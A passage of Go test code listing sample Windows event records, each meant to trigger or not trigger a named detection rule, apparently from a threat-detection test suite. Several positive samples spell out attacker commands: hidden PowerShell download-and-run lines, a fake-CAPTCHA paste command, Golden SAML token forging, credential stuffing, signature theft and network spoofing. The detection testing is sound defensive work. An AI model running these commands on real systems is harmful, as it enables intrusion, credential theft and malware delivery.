				"CommandLine": "lua54.exe -e \"os.execute('powershell -w hidden -c iwr http://203.0.113.5/x -o x.exe; .\\x.exe')\"",
				"Image":       "C:\\Users\\bob\\AppData\\Local\\Temp\\lua54.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "c3b2b218-8819-4976-a70d-c392643255e0", // SAML Token Forged With a Stolen Signing Certificate (Golden SAML)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$t = New-AADIntSAMLToken -ImmutableID \"Ryz5Hk4sJ0+Xh3aVdT1b0Q==\" -PfxFileName .\\ADFSSigningCertificate.pfx -Issuer \"http://sts.contoso.com/adfs/services/trust\"",
			},
		},
		ruleSample{
			ID:      "f13c1e16-2f11-4bc8-98f4-cdb37785ca83", // Script Checks Whether a Debugger Is Attached
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "if ([Kernel32]::IsDebuggerPresent() -or [System.Diagnostics.Debugger]::IsAttached) { exit }",
			},
		},
		ruleSample{
			ID:      "2c916041-7708-4889-8f1f-e0611c4c7ab6", // Script Joins an Image and an Archive or Program Into One File
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-Content \"$env:TEMP\\kitten.jpg\", \"$env:TEMP\\tools.tar.gz\" -Encoding byte -ReadCount 0 | Set-Content \"$env:TEMP\\kitten_new.jpg\" -Encoding byte",
			},
		},
		ruleSample{
			ID:      "678d7f7e-1244-4106-bdb6-d984d2e512b7", // Windows Mail Data Store Deleted or Tampered With
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Copy-Item \"$env:LOCALAPPDATA\\Comms\\Unistore\\data\\*\" \"$env:LOCALAPPDATA\\Comms\\Unistore\\data\\copy\" -Recurse; Remove-Item -Path \"$env:LOCALAPPDATA\\Comms\\Unistore\\data\\copy\\*\" -Recurse -Force",
			},
		},
		ruleSample{
			ID:      "62b1e675-706c-41b9-8068-caf4b820a8d5", // Script Archives Files Into a Temp or Public Staging Folder
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Compress-Archive -Path \"$env:USERPROFILE\\Documents\\Finance\" -DestinationPath \"$env:TEMP\\Folder_to_zip.zip\" -Force",
			},
		},
		ruleSample{
			ID:      "bbea3565-3d87-439e-a6fd-caafa6d2e762", // Authentication Coercion or NTLM Downgrade Run From PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "iex(new-object net.webclient).downloadstring('https://example.invalid/PowerSharpPack.ps1'); Invoke-Internalmonologue -command \"-Downgrade true -impersonate true -restore true\"",
			},
		},
		ruleSample{
			ID:      "3dc1bdd8-f305-4ec0-bb99-797015a94243", // Hyper-V Virtual Machine Created and Started by a Script
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "New-VM -Name \"Atomic VM\" -MemoryStartupBytes 1GB -NewVHDPath \"C:\\ProgramData\\a.vhdx\" -NewVHDSizeBytes 21474836480; Start-VM -Name \"Atomic VM\"",
			},
		},
		ruleSample{
			ID:      "7e4866e6-99ac-4753-9f06-9eea80e31e81", // Configuration Manager Used to Run Code on Clients (SharpSCCM, CM Scripts)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "SharpSCCM.exe exec -d WS07 -p \"C:\\Windows\\System32\\cmd.exe /c whoami > C:\\Users\\Public\\o.txt\"",
				"Image":       "C:\\Users\\bob\\Desktop\\SharpSCCM.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "80c457fb-32e5-43ff-a585-c1bfa9fc634f", // Executable Named Like a PowerShell Cmdlet Written to WindowsApps
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
				"TargetFilename": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\WindowsApps\\Get-Variable.exe",
			},
		},
		ruleSample{
			ID:      "2f522963-e0c6-4b34-a134-7b19681a7638", // Kerbrute Tries a List of Username and Password Pairs (Credential Stuffing)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "kerbrute.exe bruteforce --dc dc01.corp.local -d corp.local C:\\Users\\bob\\Desktop\\creds.txt",
				"Image":       "C:\\Users\\bob\\Desktop\\kerbrute.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "5231e513-cf03-4a60-96c5-264e87c7912f", // Application SQLite Database Dumped With sqlite3
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "sqlite3.exe C:\\Users\\alice\\AppData\\Roaming\\Signal\\sql\\db.sqlite .dump",
				"Image":       "C:\\Users\\bob\\AppData\\Local\\Temp\\sqlite3.exe",
				"ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			},
		},
		ruleSample{
			ID:      "0541d0eb-b016-4bc2-9919-885100fc216a", // Archive Copied to a Share on Another Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c copy C:\\Users\\Public\\h7.zip \\\\ws03\\c$\\ProgramData\\stage\\h7.zip",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "7012e904-0ff5-4e3f-a4f1-e258a7bb4c25", // Wi-Fi Profile Added From a File or Connection Forced From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "netsh.exe wlan add profile filename=\"C:\\Users\\Public\\free-wifi.xml\" user=all",
				"Image":       "C:\\Windows\\System32\\netsh.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "2ca6b724-ea9d-491b-adea-709aa2e7fdc5", // Office Application Resolves a Code-Hosting, Paste or Tunnel Domain
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
			Fields: map[string]string{
				"Image":     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
				"QueryName": "raw.githubusercontent.com",
			},
		},
		ruleSample{
			ID:      "b8edb063-9968-4d92-a7d8-a5cdcb6f8702", // Mining Pool Domain Resolved
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
			Fields: map[string]string{
				"Image":     "C:\\ProgramData\\Intel\\svchost.exe",
				"QueryName": "pool.supportxmr.com",
			},
		},
		ruleSample{
			ID:      "8f30348d-8d35-42fd-93fa-fad254367b62", // Pasted Download-and-Run Command Started by Explorer With a Decoy Comment
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -w h -c \"iex(irm https://verify-captcha.example/c)\" # I am not a robot - reCAPTCHA ID 4821",
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "c1fa0f5a-8d6a-4593-ab3f-8ce8ffc872c1", // Code Signature Copied From a Signed Program (SigThief, MetaTwin)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "python.exe sigthief.py -i C:\\Windows\\System32\\consent.exe -t C:\\Users\\bob\\AppData\\Local\\Temp\\beacon.exe -o C:\\Users\\bob\\AppData\\Local\\Temp\\consent.exe",
				"Image":       "C:\\Python311\\python.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "d71f0fc3-d2ed-46ba-9598-bc30cd4ea74e", // Code Signature Copied Onto Another Executable From PowerShell (MetaTwin)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-MetaTwin -Source C:\\Windows\\System32\\netapplimit.exe -Target C:\\Users\\Public\\payload.exe -Sign",
			},
		},
		ruleSample{
			ID:      "40da43c2-b636-405e-bf13-2beb2dfdb000", // ARP Spoofing Tool Run
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "bettercap.exe -iface Ethernet0 -eval \"set arp.spoof.targets 10.0.0.25; arp.spoof on; net.sniff on\"",
				"Image":       "C:\\Users\\bob\\Desktop\\bettercap.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "1183c25b-641f-4ad7-b7ce-1ff648bc60f9", // DHCP or DHCPv6 Spoofing Tool Run (mitm6, Inveigh DHCPv6)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "python.exe C:\\Tools\\mitm6\\mitm6.py -d corp.local -i Ethernet0",
				"Image":       "C:\\Python311\\python.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "f897a909-86d9-4dc5-abc3-d6cc7f7d4aea", // Competing Cryptocurrency Miners Killed
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c taskkill /f /im xmrig.exe & taskkill /f /im nbminer.exe & taskkill /f /im cpuminer.exe",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\ProgramData\\svc\\svc.exe",
			},
		},
	)
	ruleNegatives = append(ruleNegatives,
		ruleSample{
			ID:      "6476c066-4132-4b8b-b2e5-306f2d799a12", // Unsigned Kernel Driver Loaded
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 6,
			Fields: map[string]string{
				"ImageLoaded":     "C:\\Windows\\System32\\drivers\\VBoxGuest.sys",
				"Signature":       "Oracle Corporation",
				"SignatureStatus": "Valid",
				"Signed":          "true",
			},
		},
		ruleSample{
			ID:      "e36d7d45-329c-41f2-a31e-56b8d0e30f7e", // Executable Packer Run on the Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "upx.exe -d C:\\samples\\packed.exe -o C:\\samples\\unpacked.exe",
				"Image":       "C:\\Tools\\upx\\upx.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "48038a95-b178-4f06-bb9f-5a2e4995971b", // Script Rebuilds Code From Image Pixels
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$bmp = New-Object System.Drawing.Bitmap($path); $c = $bmp.GetPixel(0,0); Write-Output \"top-left colour $c\"",
			},
		},
		ruleSample{
			ID:      "6f0aa96d-fadc-4d1c-b032-5e52c7f3a9b0", // Archive or Executable Appended to an Image With copy /b
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c copy /b part1.log + part2.log combined.log",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "3776e24b-a855-4392-9413-1ea3a642992c", // Script Resolves Windows API Addresses at Run Time
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Add-Type -MemberDefinition '[DllImport(\"user32.dll\")] public static extern bool MessageBeep(uint t);' -Name Beep -Namespace Win32; [Win32.Beep]::MessageBeep(0)",
			},
		},
		ruleSample{
			ID:      "c235bf52-01cf-46f4-9900-76af837ac363", // File Base64- or Hex-Encoded With certutil
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "certutil.exe -encode C:\\pki\\rootca.cer C:\\pki\\rootca.b64",
				"Image":       "C:\\Windows\\System32\\certutil.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "e84ef7b8-599e-402a-8c6a-35936413a07c", // Process Started From a File With a Document or Picture Extension
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "rundll32.exe C:\\Windows\\System32\\shimgvw.dll,ImageView_Fullscreen C:\\Users\\bob\\Pictures\\cat.png",
				"Image":       "C:\\Windows\\System32\\rundll32.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "7a3c5226-11b3-4b22-ad6d-721acb793c0d", // Script Suspends a Thread and Rewrites Its Context
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-Process -Id $pid | Select-Object -ExpandProperty Threads | Where-Object ThreadState -eq Wait | Measure-Object",
			},
		},
		ruleSample{
			ID:      "098850a0-e7a1-4fc9-995b-f536060caa7e", // Python One-Liner Runs Decoded, Downloaded or Socket-Bound Code
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "python.exe -c \"import sys; print(sys.version)\"",
				"Image":       "C:\\Python311\\python.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "f4f5280e-9c5a-4e20-8033-a46aa71e50be", // Mailbox Export Requests or Mailbox Content Removed From Exchange
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-MailboxExportRequest | Format-Table Name, Status, FilePath",
			},
		},
		ruleSample{
			ID:      "aa86c3da-dd5f-4e13-b755-069a07c575ee", // Files Copied From a Remote Share to the Local Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c copy C:\\build\\out\\app.exe \\\\fs01\\releases\\app.exe",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "aa86c3da-dd5f-4e13-b755-069a07c575ee", // Files Copied From a Remote Share to the Local Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c xcopy \\\\corp.local\\NETLOGON\\fonts C:\\Windows\\Temp\\fonts /y",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "ca69352b-43f4-4bff-a2fc-1ca491dbed50", // Autostart Entry Deleted From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "reg.exe query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
				"Image":       "C:\\Windows\\System32\\reg.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "7f0e3d2c-a2fc-4393-a41d-3d0b9c6826d8", // Documents Gathered Into a Temp or Public Staging Folder
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "robocopy.exe C:\\Users\\alice\\Documents D:\\Backup\\alice *.docx /MIR",
				"Image":       "C:\\Windows\\System32\\Robocopy.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "78fd3dea-85b7-40a4-9c7d-a5ea917a03e5", // Device Joined or Registered to Entra ID With AADInternals
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-AzureADDevice -All $true | Where-Object { $_.ApproximateLastLogonTimeStamp -lt (Get-Date).AddDays(-90) }",
			},
		},
		ruleSample{
			ID:      "583a8073-6eea-4795-9760-107313cf44b7", // Telegram Bot API Called From a Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" https://web.telegram.org/",
				"Image":       "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "405dae7d-f199-4998-bd97-cc6602cf189b", // Telegram Bot API Resolved by a Script Host or Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
			Fields: map[string]string{
				"Image":     "C:\\Users\\bob\\AppData\\Roaming\\Telegram Desktop\\Telegram.exe",
				"QueryName": "api.telegram.org",
			},
		},
		ruleSample{
			ID:      "c1e8655b-160c-4e36-8959-6b3df6176c26", // Mailbox Rule or Setting Forwards Mail Elsewhere
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "New-InboxRule -Mailbox alice@contoso.com -Name \"newsletters\" -SubjectContainsWords \"newsletter\" -MoveToFolder \"alice:\\Newsletters\"",
			},
		},
		ruleSample{
			ID:      "f8f449eb-5e1f-4565-8b76-67de67898ec0", // Inbox Rule Deletes Mail or Hides It in a Rarely-Read Folder
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "New-InboxRule -Mailbox alice@contoso.com -Name \"projects\" -From pm@contoso.com -MoveToFolder \"alice:\\Projects\"",
			},
		},
		ruleSample{
			ID:      "62280bbe-8d43-424c-a141-2ceceb60b517", // Script Searches the Disk for Documents and Copies or Archives Them
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-ChildItem -Path C:\\Reports -Recurse -Filter *.pdf | Measure-Object -Property Length -Sum",
			},
		},
		ruleSample{
			ID:      "61bde928-ccaa-4052-a0fe-df479c3dc2c0", // cmd for /r Loop Copies Documents
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c for /R C:\\build %f in (*.obj) do del \"%f\"",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "b37904e5-8347-41ad-b3db-136e216123b1", // ClickOnce Application Launched Through dfshim
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "rundll32.exe dfshim.dll,ShArpMaintain Contoso.Payroll.application, Culture=neutral",
				"Image":       "C:\\Windows\\System32\\rundll32.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "acca0a6d-f2be-4f84-95ef-1173d7c038c7", // Browser Started With a Remote Debugging Port by Another Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --restore-last-session",
				"Image":       "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "29c8a2bb-71f1-41a3-be81-a16d13953807", // Authentication Coercion Tool Run (PetitPotam, PrinterBug, DFSCoerce)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "C:\\Windows\\System32\\spoolsv.exe",
				"Image":       "C:\\Windows\\System32\\spoolsv.exe",
				"ParentImage": "C:\\Windows\\System32\\services.exe",
			},
		},
		ruleSample{
			ID:      "75c2e695-58ef-4238-8797-19c6e2b39f67", // Shell Command File (.scf) Written
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          "C:\\Windows\\explorer.exe",
				"TargetFilename": "C:\\Users\\bob\\Desktop\\shortcut.lnk",
			},
		},
		ruleSample{
			ID:      "d5c46a4a-96e4-4b28-9c7e-81bf6e272c98", // Run Dialog Used to Start a Downloading or Hidden Command (ClickFix)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Details":      "\\\\fs01\\public\\1",
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\explorer.exe",
				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\b",
			},
		},
		ruleSample{
			ID:      "d5c46a4a-96e4-4b28-9c7e-81bf6e272c98", // Run Dialog Used to Start a Downloading or Hidden Command (ClickFix)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Details":      "iexplore https://intranet.contoso.local\\1",
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\explorer.exe",
				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\c",
			},
		},
		ruleSample{
			ID:      "7984af3e-f8e6-4315-b87c-8b84af0f493d", // Cryptocurrency Miner Started
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
				"Image":       "C:\\Windows\\System32\\svchost.exe",
				"ParentImage": "C:\\Windows\\System32\\services.exe",
			},
		},
		ruleSample{
			ID:      "8aba038e-be79-49c8-9267-4b08c462fc41", // PowerShell Command History File Read From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "powershell.exe -c Get-History | Select-Object -Last 5",
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "73eb47db-a198-416d-bece-f299fb8827b9", // Script Reads PowerShell Command History
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Set-PSReadLineOption -HistorySaveStyle SaveIncrementally -MaximumHistoryCount 8192",
			},
		},
		ruleSample{
			ID:      "af115146-c8cc-494a-90e8-a328a51f1767", // Self-Signed Code-Signing Certificate Made and Used to Sign Code
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-AuthenticodeSignature -FilePath C:\\Windows\\System32\\notepad.exe | Select-Object Status, SignerCertificate",
			},
		},
		ruleSample{
			ID:      "a9baf33e-6255-4a4a-ac10-27e934eb2f5d", // Signature Verification Provider (SIP or Trust Provider) Registered
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Details":      "WINTRUST.DLL",
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack\\TiWorker.exe",
				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllVerifyIndirectData\\{C689AAB8-8E78-11D0-8C47-00C04FC295EE}\\Dll",
			},
		},
		ruleSample{
			ID:      "199d9ddb-a674-48b5-a4eb-133565ed3660", // Driver Signature Enforcement Relaxed With bcdedit
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "bcdedit.exe /set {current} bootmenupolicy Legacy",
				"Image":       "C:\\Windows\\System32\\bcdedit.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "d07cffa8-c8f6-43c5-b542-2733eee1bb08", // Driver Signing Policy Set to Ignore Unsigned Drivers
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Details":      "DWORD (0x00000001)",
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\System32\\svchost.exe",
				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Policies\\Microsoft\\Windows NT\\Driver Signing\\BehaviorOnFailedVerify",
			},
		},
		ruleSample{
			ID:      "29c4fa57-70bc-4614-8b74-b510b25fe658", // Pass-Through Authentication Agent Hooked With AADInternals
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-Service AzureADConnectAuthenticationAgent | Select-Object Status, StartType",
			},
		},
		ruleSample{
			ID:      "819a8df6-623b-4b2d-86f2-49ab2c755ba1", // Script Builds an Archive Through the .NET Compression Library
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Add-Type -Assembly System.IO.Compression.FileSystem; [System.IO.Compression.ZipFile]::ExtractToDirectory(\"C:\\Installers\\tool.zip\", \"C:\\Tools\\tool\")",
			},
		},
		ruleSample{
			ID:      "c854f88e-e276-4411-9ec0-0ac9a712383e", // Disk or Volume Content Overwritten (format /p, diskpart clean all)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "diskpart.exe /s C:\\Windows\\Temp\\list_disks.txt",
				"Image":       "C:\\Windows\\System32\\diskpart.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "93838c4f-c8cd-4746-a94a-bf9613035e69", // Script Opens a Physical Drive for Writing
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-CimInstance Win32_DiskDrive | Select-Object DeviceID, Model, Size  # \\\\.\\PhysicalDrive0",
			},
		},
		ruleSample{
			ID:      "ba101332-a757-4853-933e-208cc823f9dc", // Virtual Machine Started Headless or From a Script, or Portable VirtualBox Registered
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe\" list runningvms",
				"Image":       "C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "fda0a2ba-41c6-4b51-a61d-92bbd626f004", // Data Sent to a Chat or Request-Catcher Webhook (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "curl.exe -o C:\\Temp\\setup.exe https://cdn.discordapp.com/attachments/11/22/setup.exe",
				"Image":       "C:\\Windows\\System32\\curl.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "6a6342b3-7a29-417a-958e-bba77ced00ef", // Data Sent to a Chat or Request-Catcher Webhook (Script Block)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Start-Process \"https://discord.com/channels/@me\"",
			},
		},
		ruleSample{
			ID:      "76a14753-1c48-4ad4-a5d5-b01a24de69f9", // Data Posted to a Paste Site API (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "curl.exe -o C:\\Temp\\notes.txt https://pastebin.com/raw/abc123",
				"Image":       "C:\\Windows\\System32\\curl.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "b45d34e5-356c-4abf-8d6b-0f2c0fe5af0b", // Data Posted to a Paste Site API (Script Block)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$page = Invoke-WebRequest -Uri https://pastebin.com/archive -UseBasicParsing",
			},
		},
		ruleSample{
			ID:      "fcd2968e-dfa1-4eb1-bc51-1253f29bb201", // File Uploaded to a Code Repository Through the GitHub or GitLab API (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "curl.exe -s https://api.github.com/repos/git-for-windows/git/contents/README.md",
				"Image":       "C:\\Windows\\System32\\curl.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "cb371782-46f8-4f2c-b3e7-d41bced24d74", // File Uploaded to a Code Repository Through the GitHub or GitLab API (Script Block)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-RestMethod -Uri https://api.github.com/repos/PowerShell/PowerShell/contents/README.md | Select-Object download_url",
			},
		},
		ruleSample{
			ID:      "c5d04cf1-27d0-4387-9d94-9d2649910306", // Loopback Ping or Timeout Used to Delay a Chained Command
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c ping -n 4 10.0.0.1",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "58c13110-fc06-4600-b274-e054fe283805", // Web Browser Starts a Script Host or LOLBin
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
